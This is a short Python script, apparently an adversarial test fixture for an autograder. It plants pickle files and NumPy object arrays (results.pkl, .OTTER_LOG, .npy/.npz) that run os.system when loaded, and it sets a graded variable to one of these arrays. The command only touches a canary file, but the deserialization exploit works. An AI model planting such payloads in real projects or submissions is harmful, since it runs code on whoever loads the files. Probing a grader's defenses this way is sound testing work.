# prepend: solution
# Threat: plant files and values that run code if anyone unpickles them (results.pkl, .npy/.npz with object
# arrays, .OTTER_LOG), and make a contract value an object array that only pickle could carry.
import os
import pickle
import numpy as _np

class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-unpickled",))

blob = pickle.dumps(Payload())
for name in ("results.pkl", ".OTTER_LOG", "pwned.pkl"):
    for folder in (".", "/tmp"):
        try:
            with open(os.path.join(folder, name), "wb") as stream:
                stream.write(blob)
        except OSError:
            pass
evil = _np.array([Payload(), 1.0], dtype=object)
try:
    _np.save("pwned.npy", evil, allow_pickle=True)
    _np.savez("pwned.npz", evil=evil)
except Exception as error:
    print("could not save", error)
hvp_remat = evil
